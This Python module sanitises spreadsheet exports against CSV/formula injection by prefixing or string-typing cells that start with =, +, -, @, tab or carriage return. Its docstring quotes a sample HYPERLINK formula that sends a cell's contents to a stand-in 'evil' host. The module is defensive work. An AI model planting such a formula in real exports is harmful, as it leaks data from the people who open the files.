"""Spreadsheet exports that cannot carry formulas (CSV/formula injection, OWASP).

A consignee named `=HYPERLINK("http://evil/?"&A1,"点击")` typed by an enterprise must reach a customs
officer's Excel as that text, never as a formula. Every text cell starting with = + - @ or a tab or
carriage return is written as text: CSV cells get a leading apostrophe (what Excel itself shows for a
quoted text), XLSX cells are stored as strings with Excel's quotePrefix style. Numbers, dates and
booleans are left as they are.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value) -> bool:
    """Whether a spreadsheet would read this cell as a formula (or strip its start)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """The value as written into a CSV cell: formula-like text prefixed with an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def append_xlsx_row(sheet, values) -> None:
    """Append a row to an openpyxl sheet, every formula-like text stored as a plain string."""
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        if is_formula_like(cell.value) or cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True
